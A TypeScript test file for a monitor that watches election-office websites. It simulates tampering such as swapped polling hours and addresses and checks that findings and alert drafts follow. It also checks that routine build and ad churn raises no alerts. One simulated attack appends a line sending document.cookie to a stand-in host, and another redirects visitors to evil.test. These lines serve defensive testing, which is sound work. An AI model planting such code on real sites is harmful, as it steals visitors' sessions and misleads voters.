// The watch sees what voters go by, on a real site and a real node: facts outside of what is read, hosts inside known code,
// rows, halves of the day, accounts, own files and headers. Each becomes a finding that says what was and what is, and a
// draft of an alert where voters are misled. And nobody is woken by what sites do by themselves.

import assert from 'node:assert/strict'
import { hash } from 'node:crypto'
import { after, before, test } from 'node:test'
import { forHouse, type TestHouse } from '../support/house.ts'
import { learned, look, openChanges, shows } from '../support/learned-site.ts'
import { DAY, monitoringHouse } from '../support/monitoring.ts'
import { startTestNode, type TestNode } from '../support/node.ts'
import { type RealSite, startRealSite } from '../support/real-site.ts'
import { makeCountry } from '../support/task-country.ts'
import { until } from '../support/until.ts'
import { pageOf } from '../support/watched-page.ts'

const LIMIT = { timeout: 280_000 }
const WAIT = { limitMs: 90_000, everyMs: 200 }
/** A day of learning, and how often own files are asked for again, in milliseconds. */
const LEARN_MS = '4000'

const OFFICE = {
  '@context': 'https://schema.org',
  '@type': 'GovernmentOffice',
  name: 'Election Commission',
  telephone: '+254 20 555 0100',
  openingHours: 'Mo-Fr 08:00-17:00',
}
const LOADER = `(function(d,s){var j=d.createElement(s);j.async=true;j.src='https://stats.counter.example/load.js';d.head.appendChild(j)})(document,'script')`
const STATIONS = `<section id="stations"><h2>Polling stations</h2><table><tr><th>Station</th><th>Address</th></tr>
<tr><td>North school</td><td>12 Market street</td></tr><tr><td>South school</td><td>4 River road</td></tr>
<tr><td>Town hall</td><td>1 Main square</td></tr></table></section>`
const OWN_SCRIPT = `document.querySelector('#find').addEventListener('click', function () { show('stations') })`

const OWN = pageOf({
  head: `<script type="application/ld+json">${JSON.stringify(OFFICE)}</script><script>${LOADER}</script><script src="/site.js"></script>`,
  main: `${STATIONS}<p>Polling stations open at 8:00 am on election day.</p>
<p id="chat">Ask us: <a href="https://wa.me/254205550100">WhatsApp</a></p>`,
})

let site: RealSite
let house: TestNode
let watched: string

before(async () => {
  site = await startRealSite()
  site.show(OWN)
  site.file('/site.js', OWN_SCRIPT)
  const settings = { SCRUTINEER_VISIT_MS: '1000', SCRUTINEER_LEARN_MS: LEARN_MS }
  house = await startTestNode('sqlite', { ...site.settings, ...settings })
  const country = await makeCountry(house)
  const [area = ''] = country.districts.values()
  await house.call('monitoring.openNetwork', { network: site.address, reason: 'Our servers' })
  const added = await house.call<{ site: string }>('monitoring.addSite', {
    name: 'Hours of polls',
    host: site.host,
    area,
    areas: [area],
    allowPrivate: true,
    newOrganization: 'Office of elections',
    authorisation: { legalBasis: 'Order', grantedBy: 'Head of the office', days: 30 },
  })
  watched = added.site
  await until(
    'the learned page',
    async () => {
      const facts = await house.call<{ learned: { stage: string } | null }>('monitoring.site', {
        site: watched,
      })
      return facts.learned?.stage === 'full' || undefined
    },
    WAIT,
  )
}, LIMIT)

after(async () => {
  await house?.remove()
  await site?.stop()
})

interface Wrong {
  readonly check: string
  readonly state: string
  readonly severity: string
  readonly reason: string
  readonly change: { readonly old: string | null; readonly now: string | null } | null
}

/** The open changes of the page. */
async function changes(): Promise<Wrong[]> {
  const { items } = await house.call<{ items: Wrong[] }>('monitoring.siteFindings', {
    site: watched,
  })
  return items.filter(({ check, state }) => check === 'defacement' && state === 'open')
}

const drafts = async () =>
  (
    await house.call<{ items: { state: string }[] }>('alerting.list', { view: 'all', limit: 50 })
  ).items.filter(({ state }) => state === 'draft')

/** What happens to the site, what was there and is there now, and whether voters are misled by it. */
const ATTACKS: readonly {
  readonly what: string
  readonly from: string
  readonly to: string
  readonly isOfVoting?: true
  act(): Promise<void> | void
  undo?(): Promise<void> | void
}[] = [
  swapped('hours in structured data alone', 'Mo-Fr 08:00-17:00', 'Mo-Fr 08:00-12:00', true),
  swapped('the host inside a known loader', 'stats.counter.example', 'stats.c0unter.test'),
  {
    what: 'two stations with each other’s address',
    from: '12 Market street',
    to: '4 River road',
    isOfVoting: true,
    act: () =>
      site.show(
        OWN.replace('12 Market street', '§')
          .replace('4 River road', '12 Market street')
          .replace('§', '4 River road'),
      ),
  },
  swapped('the other half of the day', '8:00 am', '8:00 pm', true),
  swapped('another chat account', 'wa.me/254205550100', 'wa.me/254733000999', true),
  {
    what: 'an own script that keeps its address',
    from: '/site.js',
    to: 'collect.test',
    act: () =>
      site.file('/site.js', `${OWN_SCRIPT}\nfetch('https://collect.test/c?d=' + document.cookie)`),
    undo: () => site.file('/site.js', OWN_SCRIPT),
  },
  {
    what: 'a header that sends the visitor elsewhere',
    from: '',
    to: 'evil.test',
    act: () => site.say('Refresh "0; url=https://evil.test/"'),
    undo: () => site.say(null),
  },
]

function swapped(what: string, from: string, to: string, isOfVoting?: true) {
  const act = () => site.show(OWN.replace(from, to))
  return { what, from, to, act, ...(isOfVoting && { isOfVoting }) }
}

for (const { what, from, to, isOfVoting, act, undo } of ATTACKS)
  test(
    `${what}: a finding with the words before and after${isOfVoting ? ', and a draft' : ''}`,
    LIMIT,
    async () => {
      await act()
      const said = await until(
        what,
        async () => {
          const found = (await changes()).filter(({ severity }) => 'CH'.includes(severity))
          return found.length > 0 ? found : undefined
        },
        WAIT,
      )
      const words = JSON.stringify(said)
      assert.ok(words.includes(to), `${to} in ${words}`)
      assert.ok(words.includes(from), `${from} in ${words}`)
      if (isOfVoting)
        await until('a draft', async () => (await drafts()).length > 0 || undefined, WAIT)
      await undo?.()
      site.show(OWN)
      await until('its end', async () => (await changes()).length === 0 || undefined, WAIT)
    },
  )

/** A page by the days since it was first looked at, with their part of a day. */
type Daily = (days: number) => string

const hashOf = (text: string, length: number) => hash('sha256', text, 'base64url').slice(0, length)

/** The name of a firm. */
const bidder = (n: number) =>
  `firm${hashOf(`bidder${n}`, 6)
    .toLowerCase()
    .replace(/[^a-z]/g, 'x')}`

/** A release every third day. */
const built = (day: number, name: string, length = 8) =>
  hashOf(`${Math.floor(day / 3)}${name}`, length)
const builtHex = (day: number, name: string) => hash('sha256', built(day, name)).slice(0, 16)
const chunks = (day: number) => [
  'index',
  'vendor',
  ...(Math.floor(day / 3) % 2 ? ['map'] : ['list', 'find']),
]

const QUIET: Readonly<Record<string, Daily>> = {
  'releases built by Vite': (day) =>
    pageOf({
      head:
        chunks(day)
          .map((name) => `<link rel="modulepreload" href="/assets/${name}-${built(day, name)}.js">`)
          .join('') +
        `<script type="module" src="/assets/main-${built(day, 'main')}.js"></script><link rel="stylesheet" href="/assets/main-${built(day, 'css')}.css">`,
    }),
  'releases built by webpack for Next': (day) =>
    pageOf({
      head: chunks(day)
        .map(
          (name) =>
            `<script defer src="/_next/static/chunks/${name}-${builtHex(day, name)}.js"></script>`,
        )
        .join(''),
      end: `<script src="/_next/static/${built(day, 'build', 21)}/_buildManifest.js"></script>`,
    }),
  'releases built by Angular': (day) =>
    pageOf({
      head: `<link rel="stylesheet" href="styles-${built(day, 'styles').toUpperCase().replace(/[-_]/g, 'Q')}.css">`,
      end: ['polyfills', 'main', ...chunks(day).map(() => 'chunk')]
        .map(
          (name, n) =>
            `<script src="${name}-${built(day, `${name}${n}`).toUpperCase()}.js" type="module"></script>`,
        )
        .join(''),
    }),
  'a bus that stands elsewhere each day': (day) =>
    pageOf({
      main: `<section id="bus"><h2>Our bus</h2><p>The bus stands today at ${['the market', 'Lakeside', 'the old mill', 'Hill church', 'the library'][Math.floor(day) % 5]}.</p></section>`,
    }),
  'an auction that brings new bidders all the time': (days) =>
    pageOf({
      main: `<aside id="ads">${[0, 1, 2]
        .map(
          (n) =>
            `<script async src="https://${bidder(Math.floor(days * 12) + 5 * n)}.test/bid.js"></script>`,
        )
        .join('')}</aside>`,
    }),
}

/** Days that a page is watched after it was learned. */
const DAYS = 9

async function watchedFor(h: TestHouse, page: Daily): Promise<void> {
  const begun = Date.parse(h.clock.now())
  const dayNow = () => (Date.parse(h.clock.now()) - begun) / DAY
  const moving = () => page(dayNow())
  const of = await learned(h, { page: moving })
  for (let day = 0; day < DAYS; day += 1) {
    h.clock.advance(DAY)
    shows(h, moving())
    await look(h, of)
    const woken = (await openChanges(h)).filter((one) => /^[CH] /.test(one))
    assert.deepEqual(woken, [], `day ${day}`)
  }
}

for (const [what, page] of Object.entries(QUIET))
  forHouse(`nobody is woken by ${what}`, monitoringHouse, (h) => watchedFor(h, page))
